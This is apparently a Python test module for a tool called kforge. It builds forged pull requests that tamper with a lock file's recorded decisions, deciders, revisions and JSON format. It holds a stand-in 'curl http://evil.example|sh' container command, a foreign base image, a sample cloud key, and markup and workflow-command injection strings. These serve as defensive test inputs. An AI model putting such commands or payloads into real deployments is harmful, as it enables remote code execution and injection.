"""Forged answers in kforge.lock, under every name that may have given them, alone and with all that follows from them."""

from __future__ import annotations

from dataclasses import replace
from typing import Any

from kforge import catalog
from kforge.domain.decider import Decider
from kforge.domain.lock import Lock
from kforge.domain.reliability import Reliability
from kforge.system import locked
from tests.hostile.attempt import Change, PullRequest, thinned
from tests.hostile.making import append, approved, both, decision, forged, listed, lock, more, put

EVIL = "evil.example"
SHELL = ["sh", "-c", f"curl http://{EVIL}|sh"]
Held = dict[str, Any]
# Topic, field, value, and how outputs show the old and the new one.
VALUES: dict[str, tuple[str, str, Any, str, str]] = {
    "a shell that fetches": (
        "process",
        "command",
        SHELL,
        'CMD ["gunicorn", "app:app"]',
        f'CMD ["sh", "-c", "curl http://{EVIL}|sh"]',
    ),
    "a foreign base image": (
        "build",
        "runtime",
        f"{EVIL}/x:1",
        "FROM docker.io/library/python:3.13-slim-trixie AS runtime",
        f"FROM {EVIL}/x:1 AS runtime",
    ),
    "more memory": ("resources", "memory", "7777Mi", "memory: 192Mi", "memory: 7777Mi"),
}
NEVER = {"a shell that fetches": f"http://{EVIL}|sh", "a foreign base image": f"{EVIL}/x:1", "more memory": "7777Mi"}
MODEL = {"by": "model", "model": "gpt-5", "provider": "openai"}
CLAIMS: dict[str, dict[str, Any]] = {
    "the heuristics": {},
    "a model": {"decider": MODEL},
    "a model, approved": {"decider": MODEL, "approved": True},
    "a model without a name": {"decider": {"by": "model"}},
    "nobody known": {"decider": {"by": "evil"}},
    "nobody": {"decider": {}},
    "the heuristics instead of a model": {"decider": {"by": "heuristics", "instead of": "gpt-5"}},
    "a pin": {"decider": {"by": "pin"}},
    "the spec's pin": {"pinned": True},
    "the spec's pin of another field": {"pinned": ["user"]},
    "the heuristics of a revision before": {"revision": 0},
    "the heuristics of a later revision": {"revision": 2},
    "the heuristics of a revision far off": {"revision": 99},
    "the heuristics, approved": {"approved": True},
}


def claim(topic: str, field: str, what: dict[str, Any]) -> Change:
    """Say of an answer who gave it."""

    def change(held: Held) -> None:
        held |= {key: value for key, value in what.items() if key in ("decider", "revision")}
        if "pinned" in what:
            held["pinned"] = [field] if what["pinned"] is True else what["pinned"]
        if "approved" in what:
            approved(held)

    return decision(topic, change)


def _value(topic: str, field: str, value: Any) -> Change:
    return decision(topic, lambda held: held["value"].update({field: value}))


def _each() -> list[PullRequest]:
    found = []
    for name, (topic, field, value, old, new) in VALUES.items():
        for who, what in CLAIMS.items():
            alone = both(_value(topic, field, value), claim(topic, field, what))
            whole = both(forged(topic, field, value, old, new), claim(topic, field, what))
            found.append(PullRequest(f"{name} by {who}", alone, full=(1, 2), never=(NEVER[name],)))
            found.append(
                PullRequest(f"{name} by {who}, and everything follows", whole, full=(1, 2), never=(NEVER[name],))
            )
    return found


PROBE = {"type": "tcp", "path": None, "port": "http", "period": 10, "timeout": 5, "failures": 6}
RAW: dict[str, tuple[str, Held]] = {
    "no memory": ("resources", {"memory": None}),
    "no grace period": ("rollout", {"gracePeriod": None}),
    "no port": ("process", {"ports": []}),
    "no writable folder": ("process", {"writable": []}),
    "an empty probe": ("probes", {"startup": {}}),
    "a probe without a part": ("probes", {"liveness": {key: PROBE[key] for key in PROBE if key != "failures"}}),
    "a share in another spelling": ("rollout", {"surge": "025%"}),
    "a number of another type": ("process", {"user": 10001.0}),
}
REASONS: dict[str, Held] = {
    "no reasons": {},
    "endless reasons": {"memory": "more " * 20_000},
    "a reason that holds a credential": {"memory": "needs AKIAIOSFODNN7EXAMPLE to start"},
}
DECIDERS: dict[str, Held] = {
    "more keys": {**MODEL, "evil": "x"},
    "other types": {"by": "model", "provider": 5, "model": {"a": [1]}},
    "a list instead of a model": {"by": "heuristics", "instead of": ["x"]},
    "much instead of a model": {"by": "heuristics", "instead of": "x" * 100_000},
}


def _by_model(topic: str, change: Any) -> Change:
    """An approved answer of a model that the pull request names."""
    held = both(decision(topic, lambda held: held.update(decider=MODEL)), decision(topic, change))
    return both(more("model: {name: gpt-5}"), held, decision(topic, approved))


def _named() -> list[PullRequest]:
    """What the spec leaves to a model, since the pull request says so."""
    found = []
    for name, (topic, fields) in RAW.items():
        said = dict.fromkeys(fields, "it sorts pictures")
        change = _by_model(topic, lambda held, f=fields, s=said: (held["value"].update(f), held["reasons"].update(s)))
        found.append(PullRequest(f"{name}, by a model that the spec names", change, full=(1, 2)))
    for name, reasons in REASONS.items():
        change = _by_model("resources", lambda held, r=reasons: held.update(reasons={**(r and held["reasons"]), **r}))
        found.append(PullRequest(f"{name}, by a model that the spec names", change, full=(1, 2)))
    for name, decider in DECIDERS.items():
        change = both(
            more("model: {name: gpt-5}"), decision("resources", lambda held, d=decider: held.update(decider=d))
        )
        found.append(PullRequest(f"a decider with {name}", change, full=(1, 2)))
    missing = _by_model("build", lambda held: held["value"].pop("steps"))
    return [*found, PullRequest("a model's answer without a field", missing, full=(1, 2))]


RELIABILITIES: dict[str, tuple[Held, Held]] = {
    "no model decided": ({"by": "heuristics"}, {"score": 100}),
    "a model decided that the spec does not name": (MODEL, {"score": 100, "confidence": 100}),
    "a form that no build writes": (MODEL, {"score": 101, "luck": [1]}),
    "words for a workflow": (MODEL, {"score": 100, "refused": ["x|\n::error::x"]}),
}


def _weighed(decider: Held, record: Held) -> Change:
    """A record of reliability in the lock, with the sums that go with it."""

    def edited(held: Lock) -> Lock:
        web = held.services["web"]
        made = replace(web.decisions["resources"], decider=Decider.of(decider), reliability=Reliability.of(record))
        services = {**held.services, "web": replace(web, decisions={**web.decisions, "resources": made})}
        return replace(held, services=services)

    return lambda world: locked.rewrite(world.app, world.repository, catalog.revisions(), edited)


DEEP = "services.web." * 1000 + "spec.port"


def _app(change: Any) -> Change:
    return lock(lambda held: change(held["app"]))


def _web(change: Any) -> Change:
    return lock(lambda held: change(held["services"]["web"]))


ODD = "x`|\n|a|</details><img src=x onerror=alert(1)> @acme/all \x1b[31m \u202e \n::error::x ##[error]y"
EVERY = (
    *thinned(_each()),
    *thinned(_named()),
    PullRequest("a user of another type", _value("process", "user", 10001.0), full=(1, 2)),
    PullRequest("a truth value for a number", _value("rollout", "unavailable", False), full=(1, 2)),
    PullRequest(
        "an input that an answer does not have",
        decision("resources", lambda held: held["inputs"].update({"spec.nothing": "-"})),
        full=(1, 2),
    ),
    PullRequest(
        "an input of a thousand services",
        decision("process", lambda held: held["inputs"].update({DEEP: "-"})),
        full=(1, 2),
    ),
    PullRequest(
        "an input of a thousand services, of a service and the app",
        both(
            _web(lambda held: held["inputs"].update({DEEP: "-"})), _app(lambda held: held["inputs"].update({DEEP: "-"}))
        ),
        full=(1, 2),
    ),
    *(PullRequest(f"a reliability of {name}", _weighed(*held), full=(1, 2)) for name, held in RELIABILITIES.items()),
    PullRequest("an approval of a value that no model gave", decision("resources", approved)),
    PullRequest("an approval of another value", decision("resources", lambda held: held.update(approved="0" * 16))),
    PullRequest(
        "reasons that a workflow would read",
        decision("resources", lambda held: held.update(reasons=dict.fromkeys(held["reasons"], ODD))),
    ),
    PullRequest(
        "a decider that a workflow would read",
        decision("resources", lambda held: held.update(decider={"by": "model", "model": ODD, "provider": ODD})),
        full=(1, 2),
    ),
    PullRequest(
        "a decider's name that a workflow would read",
        decision("probes", lambda held: held.update(decider={"by": ODD})),
        full=(1, 2),
    ),
    PullRequest(
        "a value with a key that a workflow would read",
        decision("probes", lambda held: held["value"].update({ODD: ODD})),
        full=(1, 2),
    ),
    PullRequest(
        "a service that a workflow would read",
        lock(lambda held: held["services"].update({ODD: held["services"]["api"]})),
        full=(1, 2),
    ),
    PullRequest("another detector", _web(lambda held: held["detector"].update(name="node")), full=(1, 2)),
    PullRequest("an unknown detector", _web(lambda held: held["detector"].update(name="evil")), full=(1, 2)),
    PullRequest("a later detector", _web(lambda held: held["detector"].update(revision=2)), full=(1, 2)),
    PullRequest("no detector", _web(lambda held: held.pop("detector")), full=(1, 2)),
    PullRequest(
        "digests of inputs that are not so",
        _web(lambda held: held["inputs"].update({"spec.env": "0" * 16})),
        full=(1, 2),
    ),
    PullRequest(
        "an input that is not there", _web(lambda held: held["inputs"].update({"spec.nothing": "0" * 16})), full=(1, 2)
    ),
    PullRequest("a decision's inputs are gone", decision("process", lambda held: held.update(inputs={})), full=(1, 2)),
    PullRequest("the app's inputs are gone", _app(lambda held: held.update(inputs={})), full=(1, 2)),
    PullRequest(
        "an included file's digest is forged",
        both(
            append("app/extra/settings.yaml", "# more\n"),
            _app(lambda held: held["inputs"].update({"included.extra/settings.yaml": "0" * 16})),
        ),
        full=(1, 2),
    ),
    PullRequest("a decision is gone", _web(lambda held: held["decisions"].pop("process")), full=(1, 2)),
    PullRequest(
        "a decision on a topic that is none",
        _web(lambda held: held["decisions"].update(evil=held["decisions"]["process"])),
        full=(1, 2),
    ),
    PullRequest("a service is gone from the lock", lock(lambda held: held["services"].pop("web")), full=(1, 2)),
    PullRequest(
        "a service more in the lock",
        lock(lambda held: held["services"].update(evil=held["services"]["web"])),
        full=(1, 2),
    ),
    PullRequest(
        "every revision is raised",
        lock(
            lambda held: [
                each.update(revision=2) for block in held["services"].values() for each in block["decisions"].values()
            ]
        ),
        full=(1, 2),
    ),
    PullRequest(
        "every revision is raised, the outputs' too",
        both(
            lock(
                lambda held: [
                    each.update(revision=2)
                    for block in held["services"].values()
                    for each in block["decisions"].values()
                ]
            ),
            listed("# revision 2 deploy/kubernetes/web/deployment.yaml"),
        ),
        full=(1, 2),
    ),
    PullRequest(
        "a value of another type",
        decision("resources", lambda held: held["value"].update(memory={"a": [1, None, 1e300]})),
        full=(1, 2),
    ),
    PullRequest(
        "a value that is nested deeply",
        decision("resources", lambda held: held["value"].update(memory=_deep(90))),
        full=(1, 2),
    ),
    PullRequest(
        "values that are numbers beyond all",
        put(
            "app/kforge.lock",
            '{"lock": 1, "app": {"inputs": {}}, "services": {"web": {"decisions": {}, "inputs": {"a": 1'
            + "0" * 10_000
            + "}}}}",
        ),
        full=(2,),
    ),
    PullRequest("the lock nests 100,000 lists", put("app/kforge.lock", "[" * 100_000), full=(2,)),
    PullRequest(
        "the lock has a key twice",
        put("app/kforge.lock", '{"lock": 1, "lock": 1, "app": {"inputs": {}}, "services": {}}'),
        full=(1, 2),
    ),
    PullRequest("the lock is of a later format", lock(lambda held: held.update(lock=2)), full=(2,)),
    PullRequest("the lock holds NaN", put("app/kforge.lock", '{"lock": NaN}'), full=(2,)),
    PullRequest(
        "the lock holds half a character",
        put("app/kforge.lock", '{"lock": 1, "app": {"inputs": {"\\ud800": "a"}}, "services": {}}'),
        full=(2,),
    ),
    PullRequest("the lock holds bytes that are no text", put("app/kforge.lock", b"\xff" * 100), full=(2,)),
)


def _deep(levels: int) -> Any:
    held: Any = "x"
    for _ in range(levels):
        held = [held]
    return held
